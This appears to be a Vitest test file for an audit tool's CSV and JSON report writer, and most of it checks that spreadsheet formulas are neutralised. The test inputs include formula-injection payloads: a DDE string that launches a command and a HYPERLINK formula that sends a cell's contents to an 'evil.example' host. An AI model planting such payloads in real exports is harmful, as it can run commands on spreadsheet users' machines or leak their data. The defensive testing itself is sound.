import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { parse } from "csv-parse/sync"
import { Effect } from "effect"
import { afterEach, beforeEach, describe, expect, it } from "vitest"
import type { AuditRun } from "../../src/Audit/AuditRun.js"
import { NO_SUBJECT } from "../../src/Audit/Finding.js"
import type { AnnotatedFinding } from "../../src/Audit/FindingAnnotations.js"
import { commitFiles } from "../../src/Reports/CommitFiles.js"
import { FINDING_COLUMNS } from "../../src/Reports/CsvColumns.js"
import { makeFindingSpool } from "../../src/Reports/FindingSpool.js"
import { neutraliseFormula, unneutraliseFormula } from "../../src/Reports/FormulaGuard.js"
import { writeFindingReports } from "../../src/Reports/WriteFindingReports.js"

let directory = ""
beforeEach(() => {
  directory = mkdtempSync(join(tmpdir(), "reports-"))
})
afterEach(() => rmSync(directory, { recursive: true, force: true }))

const finding = (overrides: Partial<AnnotatedFinding>): AnnotatedFinding => ({
  ...NO_SUBJECT,
  severity: "medium",
  finding: "STALE_LOGIN",
  userId: "u",
  email: "a@example.com",
  enabled: true,
  detail: "last login 100 days ago (more than 90)",
  id: `STALE_LOGIN:${overrides.userId ?? "u"}`,
  firstSeen: "2026-06-30T12:00:00.000Z",
  change: "new",
  suppressed: false,
  suppressionReason: null,
  controls: [],
  ...overrides
})

const RUN = { runId: "run-1" } as unknown as AuditRun

const write = (
  findings: ReadonlyArray<AnnotatedFinding>,
  stem = "user-audit-20260630T120000Z",
  exclude = new Set<never>(),
  spoolOptions: { readonly memoryBytes?: number } = {},
  undeliveredMark?: string
) =>
  Effect.runPromise(
    Effect.scoped(
      Effect.gen(function* () {
        const spool = yield* makeFindingSpool(directory, spoolOptions)
        for (const item of findings) yield* spool.add(item)
        return yield* writeFindingReports({
          directory,
          stem,
          run: RUN,
          spool,
          exclude,
          ...(undeliveredMark === undefined ? {} : { undeliveredMark })
        })
      })
    )
  )

const readCsv = (path: string): Array<Record<string, string>> =>
  parse(readFileSync(path, "utf8"), { bom: true, columns: true, record_delimiter: "\r\n" })

describe("the findings CSV and JSON", () => {
  it("round-trips every field through a real CSV parser, sorted by severity, code, then email", async () => {
    const findings: Array<AnnotatedFinding> = [
      finding({ email: "zoe@example.com", userId: "u3" }),
      finding({ severity: "info", finding: "PRIVILEGED_ROLE", email: "amy@example.com", userId: "u1" }),
      finding({ severity: "critical", finding: "COMPROMISED_ACCOUNT", email: "kim@example.com", userId: "u2" }),
      finding({ severity: "medium", finding: "NEVER_LOGGED_IN", email: "bob@example.com", userId: "u4" }),
      finding({ email: "ann@example.com", userId: "u5", givenName: "정민", familyName: 'Ñúñez, "Jr"\nII' })
    ]
    const paths = await write(findings)
    expect(paths.csv).toBe(join(directory, "user-audit-20260630T120000Z.csv"))
    const raw = readFileSync(paths.csv, "utf8")
    expect(raw.startsWith("\uFEFFseverity,finding,user_id,")).toBe(true)
    expect(raw.split("\r\n")[0]).toBe(`\uFEFF${FINDING_COLUMNS.join(",")}`)
    const rows = readCsv(paths.csv)
    expect(rows.map((row) => row.user_id)).toEqual(["u2", "u4", "u5", "u3", "u1"])
    expect(rows[2]).toMatchObject({ given_name: "정민", family_name: 'Ñúñez, "Jr"\nII', enabled: "true" })

    const json = JSON.parse(readFileSync(paths.json, "utf8")) as { run: unknown; findings: Array<AnnotatedFinding> }
    expect(json.run).toEqual(RUN)
    expect(json.findings.map((item) => item.userId)).toEqual(["u2", "u4", "u5", "u3", "u1"])
    expect(json.findings[2]).toEqual(findings[4])
  })

  it("puts each field of a finding under its own column", async () => {
    const paths = await write([
      finding({
        severity: "high",
        userId: "u9",
        email: "eve@example.com",
        givenName: "Eve",
        familyName: "Moneypenny",
        roleId: "role-admin",
        roleName: "Admin",
        status: "CONFIRMED",
        createdAt: "2024-01-02T03:04:05.000Z",
        lastLoggedInAt: "2026-03-04T05:06:07.000Z",
        daysSinceLogin: 118,
        detail: "last login 118 days ago (more than 90)",
        firstSeen: "2026-05-01T00:00:00.000Z",
        change: "escalated",
        suppressed: true,
        suppressionReason: "on leave (owner secops@example.com, expires 2026-12-31, entry 1)",
        controls: ["SOC2 CC6.2", "ISO27001 A.5.18"]
      })
    ])
    expect(readCsv(paths.csv)).toEqual([
      {
        severity: "high",
        finding: "STALE_LOGIN",
        user_id: "u9",
        email: "eve@example.com",
        given_name: "Eve",
        family_name: "Moneypenny",
        role_id: "role-admin",
        role_name: "Admin",
        status: "CONFIRMED",
        enabled: "true",
        created_at: "2024-01-02T03:04:05.000Z",
        last_logged_in_at: "2026-03-04T05:06:07.000Z",
        days_since_login: "118",
        detail: "last login 118 days ago (more than 90)",
        first_seen: "2026-05-01T00:00:00.000Z",
        change: "escalated",
        suppressed: "true",
        suppression_reason: "on leave (owner secops@example.com, expires 2026-12-31, entry 1)",
        controls: "SOC2 CC6.2; ISO27001 A.5.18"
      }
    ])
  })

  it("neutralises cells that a spreadsheet would run as formulas", async () => {
    for (const [input, output] of [
      ['=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'],
      ["+1", "'+1"],
      ["-2+3", "'-2+3"],
      ["@SUM(A1)", "'@SUM(A1)"],
      ["\tx", "'\tx"],
      ["\rx", "'\rx"],
      ["\n=1+1", "'\n=1+1"],
      ["\uff1d1+1", "'\uff1d1+1"],
      ["\uff20x", "'\uff20x"],
      // The full-width plus and minus, which Apple Numbers reads as the ASCII ones.
      ["\uff0b1", "'\uff0b1"],
      ["\uff0d1", "'\uff0d1"],
      // Space a spreadsheet trims as it opens the file, and the formula it hid.
      [" =1+1", "' =1+1"],
      ["  \t=1+1", "'  \t=1+1"],
      ["\u00a0=1+1", "'\u00a0=1+1"],
      ["\u3000@x", "'\u3000@x"],
      ["\0x", "'\0x"],
      [" Ada", " Ada"],
      ["  ", "  "],
      ["Ada", "Ada"],
      ["a=b", "a=b"]
    ]) {
      expect(neutraliseFormula(input ?? "")).toBe(output)
    }
    const paths = await write([
      finding({
        userId: "=1+1",
        givenName: "=cmd|' /C calc'!A0",
        familyName: "+1",
        email: "@evil.example",
        roleId: "-1",
        roleName: "=Admin",
        status: "@CONFIRMED",
        detail: "=detail"
      })
    ])
    // Every column with text from the API (and the detail, which quotes it).
    expect(readCsv(paths.csv)[0]).toMatchObject({
      user_id: "'=1+1",
      given_name: "'=cmd|' /C calc'!A0",
      family_name: "'+1",
      email: "'@evil.example",
      role_id: "'-1",
      role_name: "'=Admin",
      status: "'@CONFIRMED",
      detail: "'=detail"
    })
    // The JSON keeps the data as it came: it is not read by spreadsheets.
    const json = JSON.parse(readFileSync(paths.json, "utf8")) as { findings: Array<AnnotatedFinding> }
    expect(json.findings[0]?.givenName).toBe("=cmd|' /C calc'!A0")
  })

  it("neutralises a formula after space, which a spreadsheet trimming cells as it opens the file runs", async () => {
    const paths = await write([
      finding({ givenName: ' =HYPERLINK("http://x","y")', familyName: "\u00a0=1+1", email: "\t@evil.example" })
    ])
    expect(readCsv(paths.csv)[0]).toMatchObject({
      given_name: '\' =HYPERLINK("http://x","y")',
      family_name: "'\u00a0=1+1",
      email: "'\t@evil.example"
    })
  })

  it("neutralises the suppression reason, which people write in the suppressions file", async () => {
    const paths = await write([
      finding({
        suppressed: true,
        suppressionReason: '=HYPERLINK("http://x","y") (owner o, expires 2027-01-01, entry 1)'
      })
    ])
    expect(readCsv(paths.csv)[0]).toMatchObject({
      suppressed: "true",
      suppression_reason: '\'=HYPERLINK("http://x","y") (owner o, expires 2027-01-01, entry 1)'
    })
  })

  it("neutralises first_seen, carried forward from a previous report that can be edited", async () => {
    // Checked when the previous report is read (FirstSeen.ts); guarded here all the same.
    const paths = await write([finding({ firstSeen: '=HYPERLINK("http://evil.example/?x="&B2,"click")' })])
    expect(readCsv(paths.csv)[0]?.first_seen).toBe('\'=HYPERLINK("http://evil.example/?x="&B2,"click")')
  })

  it("reads back a neutralised cell as it was, and keeps a quote that begins the text itself", () => {
    for (const text of [
      "=1+1",
      "+1",
      "-2",
      "@x",
      "\tx",
      "\uff1d1",
      " =1",
      "\u00a0-x",
      "' =1",
      " 'x",
      "'Brien",
      "'",
      "Ada",
      "'=1",
      "''-x",
      "'@",
      // A formula's first character second, behind no quote: nothing to take off.
      "a=b",
      "x@example.com"
    ]) {
      expect(unneutraliseFormula(neutraliseFormula(text))).toBe(text)
    }
    expect(unneutraliseFormula("'Brien")).toBe("'Brien")
    expect(unneutraliseFormula("'=1+1")).toBe("=1+1")
  })

  it("separates the controls with a semicolon and a space", async () => {
    const paths = await write([finding({ controls: ["CIS Controls v8 5.3", "SOC 2 CC6.2"] })])
    expect(readCsv(paths.csv)[0]?.controls).toBe("CIS Controls v8 5.3; SOC 2 CC6.2")
  })

  it("leaves the user columns of a run-level finding empty, and days since login empty for a user who never logged in", async () => {
    const paths = await write([
      finding({ ...NO_SUBJECT, severity: "high", finding: "LOGIN_DATA_MISSING", id: "LOGIN_DATA_MISSING" }),
      finding({ finding: "NEVER_LOGGED_IN", id: "NEVER_LOGGED_IN:u", daysSinceLogin: null })
    ])
    const [runLevel, never] = readCsv(paths.csv)
    expect(runLevel).toMatchObject({
      finding: "LOGIN_DATA_MISSING",
      user_id: "",
      email: "",
      enabled: "",
      days_since_login: ""
    })
    expect(never).toMatchObject({ finding: "NEVER_LOGGED_IN", enabled: "true", days_since_login: "" })
  })

  it("never overwrites a report written in the same second", async () => {
    const first = await write([finding({ userId: "first" })])
    const second = await write([finding({ userId: "second" })])
    expect(second.csv).toBe(join(directory, "user-audit-20260630T120000Z-2.csv"))
    expect(second.json).toBe(join(directory, "user-audit-20260630T120000Z-2.json"))
    expect(readCsv(first.csv)[0]?.user_id).toBe("first")
    expect(readCsv(second.csv)[0]?.user_id).toBe("second")
  })

  it("moves the whole set to the next name when only a later file's name is taken, leaving no file mixed in", async () => {
    // Another run's JSON holds the name; its CSV does not exist (deleted by hand, say).
    writeFileSync(join(directory, "user-audit-20260630T120000Z.json"), "{}")
    const paths = await write([finding({ userId: "this-run" })])
    expect(paths.csv).toBe(join(directory, "user-audit-20260630T120000Z-2.csv"))
    expect(paths.json).toBe(join(directory, "user-audit-20260630T120000Z-2.json"))
    // This run's CSV did not stay under the stem whose JSON is the other run's.
    expect(readdirSync(directory).sort()).toEqual([
      "user-audit-20260630T120000Z-2.csv",
      "user-audit-20260630T120000Z-2.json",
      "user-audit-20260630T120000Z.json"
    ])
  })

  it("puts a run's undelivered mark in place with its reports, under their stem, the next one when that is taken", async () => {
    // A run stopped after its reports are in place but before its email goes leaves this mark: the next run's
    // only sign that the news in these reports was never mailed.
    const mark = "The audit email of this run had not been sent when the run ended.\n"
    writeFileSync(join(directory, "user-audit-20260630T120000Z.json"), "{}")
    const paths = await write([finding({})], undefined, undefined, undefined, mark)
    expect(paths.undelivered).toBe(join(directory, "user-audit-20260630T120000Z-2.undelivered"))
    expect(readFileSync(paths.undelivered ?? "", "utf8")).toBe(mark)
    expect(readdirSync(directory).sort()).toEqual([
      "user-audit-20260630T120000Z-2.csv",
      "user-audit-20260630T120000Z-2.json",
      "user-audit-20260630T120000Z-2.undelivered",
      "user-audit-20260630T120000Z.json"
    ])
  })

  it("leaves no temporary files behind and writes a header-only CSV when there are no findings", async () => {
    const paths = await write([])
    expect(readdirSync(directory).sort()).toEqual([
      "user-audit-20260630T120000Z.csv",
      "user-audit-20260630T120000Z.json"
    ])
    expect(readCsv(paths.csv)).toEqual([])
    expect(JSON.parse(readFileSync(paths.json, "utf8")).findings).toEqual([])
  })

  it("keeps excluded codes out of both files", async () => {
    const paths = await write(
      [finding({ finding: "NEVER_LOGGED_IN", userId: "gone" }), finding({ userId: "kept" })],
      "stem",
      new Set(["NEVER_LOGGED_IN"]) as never
    )
    expect(readCsv(paths.csv).map((row) => row.user_id)).toEqual(["kept"])
    const json = JSON.parse(readFileSync(paths.json, "utf8")) as { findings: Array<AnnotatedFinding> }
    expect(json.findings.map((item) => item.userId)).toEqual(["kept"])
  })

  it("sorts and reads back thousands of findings spilled to disk", async () => {
    const many = Array.from({ length: 5000 }, (_, index) =>
      finding({ userId: `u${index}`, email: `user${String(4999 - index).padStart(4, "0")}@example.com` })
    )
    // A spool of no memory: 5,000 findings are about 2 MB, which the default 16 MiB would have kept in memory.
    const paths = await write(many, undefined, undefined, { memoryBytes: 0 })
    const rows = readCsv(paths.csv)
    expect(rows.map((row) => row.email)).toEqual(
      Array.from({ length: 5000 }, (_, index) => `user${String(index).padStart(4, "0")}@example.com`)
    )
    const json = JSON.parse(readFileSync(paths.json, "utf8")) as { findings: Array<AnnotatedFinding> }
    expect(json.findings.map((item) => item.email)).toEqual(rows.map((row) => row.email))
  })
})

describe("putting reports under their final names", () => {
  it("takes back the files already placed when a later one fails, so no report stands alone", async () => {
    const csv = join(directory, ".user-audit.csv.tmp")
    writeFileSync(csv, "severity\r\n")
    const outcome = await Effect.runPromise(
      Effect.either(
        commitFiles(directory, "user-audit-20260630T120000Z", [
          { tempPath: csv, extension: ".csv" },
          // Gone before it could be placed (deleted, or its scope closed by an interrupt).
          { tempPath: join(directory, ".user-audit.json.tmp"), extension: ".json" }
        ])
      )
    )
    expect(outcome._tag).toBe("Left")
    expect(readdirSync(directory).filter((name) => name.startsWith("user-audit-"))).toEqual([])
  })
})

describe("a report directory removed while the reports are written into it", () => {
  /** Writes reports of two findings, `meanwhile` run as the first batch is written; the error they fail with. */
  const failedWhile = (meanwhile: () => void) =>
    Effect.runPromise(
      Effect.scoped(
        Effect.gen(function* () {
          const spool = yield* makeFindingSpool(directory)
          for (const userId of ["u1", "u2"]) yield* spool.add(finding({ userId }))
          return yield* Effect.flip(
            writeFindingReports({
              directory,
              stem: "user-audit-20260630T120000Z",
              run: RUN,
              spool,
              exclude: new Set(),
              onBatch: meanwhile
            })
          )
        })
      )
    )

  it("fails saying it was removed, and nothing is made in its place", async () => {
    const error = await failedWhile(() => rmSync(directory, { recursive: true }))
    expect(error._tag).toBe("ReportError")
    expect(error.message).toBe(
      `cannot put the reports in ${directory}: it was removed during the run, and the reports written in it with ` +
        "it; nothing was put in place"
    )
    expect(existsSync(directory)).toBe(false)
  })

  it("made anew, fails saying the reports were removed from it, not that it does not exist, and stays empty", async () => {
    // A clean-up's `rm -rf` and `mkdir` between the checks at the start and the reports' placing.
    const error = await failedWhile(() => {
      rmSync(directory, { recursive: true })
      mkdirSync(directory)
    })
    expect(error.message).toBe(
      `cannot put the reports in ${directory}: the reports written in it were removed before they could be put in ` +
        "place (was it emptied or made anew during the run?); nothing was put in place"
    )
    expect(readdirSync(directory)).toEqual([])
  })
})
